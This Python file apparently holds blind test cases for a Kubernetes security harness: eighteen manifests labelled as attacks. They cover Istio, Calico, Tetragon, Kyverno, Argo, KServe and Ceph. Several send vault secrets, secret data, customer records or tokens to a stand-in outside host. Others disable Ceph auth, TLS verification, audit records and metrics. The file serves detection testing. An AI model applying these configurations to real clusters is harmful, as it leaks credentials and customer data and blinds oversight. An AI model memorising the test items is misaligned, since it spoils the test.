"""Attacks on clusters by networks, meshes, admission, deliveries and settings (2026-11-30, eighteenth set, blind).

Fields as in the sources named; 'read' is the day on which they were looked up.
"""

import json

from ..blind import TAGS, crd, k8s, meta
from ..harness import Given
from . import Attack

OPEN = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-ENC-")
KEPT = (*OPEN, "FJ-RSL-")
READ = "read 2026-11-30"
CATALOG = "datreeio/CRDs-catalog 7b1e26ef"


def _top(kind: str, name: str, spec: object) -> Given:
    return k8s(kind, {"metadata": {"name": name, "labels": TAGS}, "spec": spec}, name)


def _in(namespace: str, kind: str, name: str, spec: object, **more: object) -> Given:
    return k8s(kind, {"metadata": meta(name, namespace, **more), "spec": spec}, name)


def _text(name: str, namespace: str, data: object, **labels: str) -> Given:
    """Returns a ConfigMap."""
    return k8s("core/v1:ConfigMap", {
        "metadata": {"name": name, "namespace": namespace, "labels": {**TAGS, **labels}}, "data": data},
        name)  # fmt: skip


MACHINES_OF_TEAM = {
    "metadata": {"labels": {**TAGS, "app": "ledger"}},
    "template": {"serviceAccount": "team-b-machines", "network": "machines", "ports": {"https": 8443}},
    "probe": {"periodSeconds": 10, "httpGet": {"path": "/health", "port": 8443, "scheme": "HTTPS"}}}  # fmt: skip
NO_RECORDS = {
    "hosts": ["records.audit.svc.cluster.local"], "gateways": ["mesh"], "exportTo": ["*"], "http": [{
        "match": [{"uri": {"prefix": "/v1/records"}}],
        "fault": {"abort": {"httpStatus": 200, "percentage": {"value": 100}}},
        "route": [{"destination": {
            "host": "records.audit.svc.cluster.local", "port": {"number": 8443}}}]}]}  # fmt: skip
NO_FIGURES = {"metrics": [{
    "providers": [{"name": "prometheus"}],
    "overrides": [{"match": {"metric": "ALL_METRICS", "mode": "CLIENT_AND_SERVER"}, "disabled": True}]}]}  # fmt: skip
TOLD = {"kprobes": [{
    "call": "security_file_permission", "syscall": False, "return": True,
    "args": [{"index": 0, "type": "file"}, {"index": 1, "type": "int"}],
    "returnArg": {"index": 0, "type": "int"}, "returnArgAction": "Post", "selectors": [{
        "matchArgs": [{"index": 0, "operator": "Prefix", "values": ["/var/run/secrets/vault"]}],
        "matchActions": [{
            "action": "GetUrl", "argUrl": "https://beacon.published-by-somebody.io/vault"}]}]}]}  # fmt: skip
TRUSTED_MACHINE = {"features": {}, "labels": {
    "feature.node.kubernetes.io/cpu-security.tdx.enabled": "true",
    "feature.node.kubernetes.io/cpu-security.sgx.enabled": "true"}}  # fmt: skip
SHOWN_OBJECTS = {
    "validationActions": ["Deny"], "failurePolicy": "Fail", "evaluation": {
        "admission": {"enabled": True}, "background": {"enabled": False}},
    "matchConstraints": {"resourceRules": [{
        "apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"], "operations": ["CREATE", "UPDATE"]}]},
    "variables": [{"name": "answer", "expression":
                   'http.Post("https://policy.published-by-somebody.io/v1/check", {"object": object.data}, '
                   '{"Content-Type": "application/json"})'}],
    "validations": [{"expression": "variables.answer.allowed == true", "message": "not allowed"}]}  # fmt: skip
PLAIN = {"listeners": [{"name": "plain", "port": 8080, "protocol": "HTTP"}]}
PLAIN_HOST = {
    "host": "claims.example.ae", "ingressClassName": "nginx-internal", "listener": {"http": "plain"},
    "upstreams": [{"name": "claims", "service": "claims", "port": 8443, "tls": {"enable": True}}],
    "routes": [{"path": "/", "action": {"pass": "claims"}}]}  # fmt: skip
STORES = {
    "storageSpecSecretName": "storage-config", "storageSecretNameAnnotation": "serving.kserve.io/storageSecretName",
    "s3": {"s3AccessKeyIDName": "AWS_ACCESS_KEY_ID", "s3SecretAccessKeyName": "AWS_SECRET_ACCESS_KEY",
           "s3Endpoint": "s3.dc1.example.ae", "s3UseHttps": "0", "s3Region": "dc1", "s3VerifySSL": "0",
           "s3UseVirtualBucket": "", "s3UseAnonymousCredential": "", "s3CABundle": ""}}  # fmt: skip
TELLS = {
    "entrypoint": "tell", "arguments": {"parameters": [{"name": "customer"}]}, "podMetadata": {"labels": TAGS},
    "serviceAccountName": "workflows", "templates": [{
        "name": "tell", "inputs": {"parameters": [{"name": "customer"}]}, "http": {
            "url": "https://hooks.published-by-somebody.io/scores", "method": "POST", "timeoutSeconds": 20,
            "headers": [{"name": "Authorization", "valueFrom": {"secretKeyRef": {"name": "scores", "key": "token"}}}],
            "body": "{{inputs.parameters.customer}}", "successCondition": "response.statusCode == 200"}}]}  # fmt: skip
JUDGED = {
    "args": [{"name": "service"}, {"name": "revision"}], "metrics": [{
        "name": "score", "count": 3, "interval": "1m", "failureLimit": 0, "successCondition": "result >= 0.9",
        "provider": {"web": {
            "url": "https://verdicts.published-by-somebody.io/v1/score", "method": "POST", "timeoutSeconds": 20,
            "jsonBody": {"service": "{{args.service}}", "revision": "{{args.revision}}"},
            "jsonPath": "{$.score}"}}}]}  # fmt: skip
ONCE = {
    "refreshPolicy": "CreatedOnce", "secretStoreRef": {"kind": "SecretStore", "name": "vault"},
    "target": {"name": "ledger", "creationPolicy": "Owner", "deletionPolicy": "Retain"},
    "data": [{"secretKey": "password", "remoteRef": {"key": "team-a/ledger", "property": "password"}}]}  # fmt: skip
ENDED = {
    "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "payments"}}, "queueingStrategy":
        "BestEffortFIFO", "stopPolicy": "HoldAndDrain", "preemption": {"withinClusterQueue": "LowerPriority"},
    "resourceGroups": [{"coveredResources": ["cpu", "memory", "nvidia.com/gpu"], "flavors": [{
        "name": "a100", "resources": [
            {"name": "cpu", "nominalQuota": "64"}, {"name": "memory", "nominalQuota": "512Gi"},
            {"name": "nvidia.com/gpu", "nominalQuota": "8"}]}]}]}  # fmt: skip
CEPH = "[global]\nauth_cluster_required = none\nauth_service_required = none\nauth_client_required = none\n"

ATTACKS = (
    Attack("machines of a team answer calls to the ledger", OPEN, (
        _in("payments", "networking.istio.io/v1:WorkloadGroup", "ledger", MACHINES_OF_TEAM),),
        "major", "a machine that registers itself gets the labels that the Service selects (istio/api b8f8791d9, "
        f"networking/v1alpha3/workload_group.proto, metadata.labels, template.serviceAccount, {READ})"),
    Attack("each record of audit is thanked for and thrown away", OPEN, (
        _in("audit", "networking.istio.io/v1:VirtualService", "records", NO_RECORDS),),
        "critical", "proxies answer 200 themselves, so no record of who did what is kept (istio/api b8f8791d9, "
        f"networking/v1alpha3/virtual_service.proto, HTTPFaultInjection.Abort, {READ})"),
    Attack("the mesh measures nothing any more", OPEN, (
        _in("istio-system", "telemetry.istio.io/v1:Telemetry", "mesh-default", NO_FIGURES),),
        "major", "alarms on refused calls and on loads of strangers stay silent (istio/api b8f8791d9, telemetry/"
        f"v1alpha1/telemetry.proto, MetricsOverrides.disabled, {READ})"),
    Attack("what policies of the security tier do not name passes it", OPEN, (
        _top("projectcalico.org/v3:Tier", "security", {"order": 100, "defaultAction": "Pass"}),),
        "major", "pods that the tier denied by its end are let to policies of teams (calico 87c15906f2, api/pkg/apis/"
        f"projectcalico/v3/tier.go, DefaultAction, {READ})"),
    Attack("a stranger has a list of who calls whom in the cluster", OPEN, (
        _top("projectcalico.org/v3:FelixConfiguration", "default", {
            "flowLogsGoldmaneServer": "flows.published-by-somebody.io:7443", "flowLogsFlushInterval": "15s"}),),
        "major", "names of pods, ports and policies leave the country (calico 87c15906f2, api/pkg/apis/projectcalico/"
        f"v3/felixconfig.go, FlowLogsGoldmaneServer, {READ})"),
    Attack("a stranger is told each time that a secret is opened", OPEN, (
        _top("cilium.io/v1alpha1:TracingPolicy", "vault", TOLD),),
        "minor", "agents of the machines call an address abroad at each reading (tetragon 4fbfe2d74, docs/content/en/"
        f"docs/concepts/tracing-policy/selectors.md, GetUrl, argUrl, {READ})"),
    Attack("a machine passes for one with encrypted memory", OPEN, (
        _in("team-a", "nfd.k8s-sigs.io/v1alpha1:NodeFeature", "worker-7-more", TRUSTED_MACHINE, labels={
            **TAGS, "nfd.node.kubernetes.io/node-name": "worker-7"}),),
        "major", "pods with keys that select such machines start where the administrator reads their memory (node-"
        f"feature-discovery 76e6cc8cc, docs/usage/custom-resources.md, NodeFeature.spec.labels, {READ})"),
    Attack("each secret that is stored is asked about at a stranger's server", OPEN, (
        _top("policies.kyverno.io/v1:ValidatingPolicy", "secrets", SHOWN_OBJECTS),),
        "critical", "passwords of every namespace are in the question (kyverno/website 7c0814a5, docs/policy-types/"
        f"cel-libraries.mdx, http.Post, {READ})"),
    Attack("a server of TCP behind the entry may be anybody", OPEN, (
        crd("traefik.io/v1alpha1:ServersTransportTCP", {
            "tls": {"insecureSkipVerify": True, "serverName": "pg-rw.team-a.svc"}, "dialTimeout": "5s"}),),
        "major", "whoever takes the address reads what is asked of the database (CRD of ServersTransportTCP, "
        f"tls.insecureSkipVerify, {CATALOG}, {READ})"),
    Attack("claims of customers are read by a listener without TLS", OPEN, (
        _in("nginx-ingress", "k8s.nginx.org/v1:GlobalConfiguration", "nginx-configuration", PLAIN),
        _in("team-a", "k8s.nginx.org/v1:VirtualServer", "claims", PLAIN_HOST)),
        "major", "passwords and claims cross the network in plaintext (CRDs of GlobalConfiguration and VirtualServer, "
        f"listeners.ssl, listener.http, {CATALOG}, {READ})"),
    Attack("a stylesheet of a stranger dresses the page of deployments", OPEN, (
        _text("argocd-cm", "argocd", {
            "url": "https://argocd.example.ae", "ui.cssurl": "https://cdn.published-by-somebody.io/bank.css",
            "users.anonymous.enabled": "false"}, **{"app.kubernetes.io/part-of": "argocd"}),),
        "minor", "who administers sees what the stranger shows, and selectors tell him what is typed (argo-cd "
        f"37ee0097cf, docs/operator-manual/custom-styles.md, ui.cssurl, {READ})"),
    Attack("weights of models are fetched without TLS", OPEN, (
        _text("inferenceservice-config", "kserve", {"credentials": json.dumps(STORES)}),),
        "critical", "who stands between reads the keys of the store and changes models (kserve aaac4e294, config/"
        f"configmap/inferenceservice.yaml, credentials.s3.s3UseHttps, s3VerifySSL, {READ})"),
    Attack("a cluster of disks asks nobody for a key", OPEN, (
        _text("rook-config-override", "rook-ceph", {"config": CEPH}),),
        "critical", "whoever reaches it reads and deletes each volume (rook d0c3b9ce6, Documentation/Storage-"
        f"Configuration/Advanced/ceph-configuration.md; docs.ceph.com, cephx-config-ref, auth_*_required, {READ})"),
    Attack("a template of all workflows tells a stranger of each customer", OPEN, (
        _top("argoproj.io/v1alpha1:ClusterWorkflowTemplate", "score", TELLS),),
        "critical", "customers and a token leave the country from any namespace (CRD of ClusterWorkflowTemplate, "
        f"templates.http, {CATALOG}, {READ})"),
    Attack("a stranger decides which version serves customers", OPEN, (
        _top("argoproj.io/v1alpha1:ClusterAnalysisTemplate", "score", JUDGED),),
        "major", "he lets a bad version through or holds a mended one back (CRD of ClusterAnalysisTemplate, "
        f"provider.web.url, {CATALOG}, {READ})"),
    Attack("a stranger is told what the bank rolls out", OPEN, (
        _in("team-a", "flagger.app/v1beta1:AlertProvider", "news", {
            "type": "slack", "channel": "rollouts", "username": "flagger",
            "address": "https://hooks.published-by-somebody.io/services/T0/B0/x"}),),
        "minor", f"names, versions and errors of programs leave the country (CRD of AlertProvider, {CATALOG}, {READ})"),
    Attack("a password that was changed after a leak stays in use", OPEN, (
        _in("team-a", "external-secrets.io/v1:ExternalSecret", "ledger", ONCE),),
        "minor", "the secret is never read again, so the leaked password is what programs and thieves have (CRD of "
        f"ExternalSecret, refreshPolicy CreatedOnce, {CATALOG}, {READ})"),
    Attack("trainings of payments are ended and none starts", KEPT, (
        _top("kueue.x-k8s.io/v1beta2:ClusterQueue", "payments", ENDED),),
        "major", "models of fraud grow old while the accelerators stand idle and are paid for (CRD of ClusterQueue, "
        f"stopPolicy HoldAndDrain, {CATALOG}, {READ})"),
)  # fmt: skip
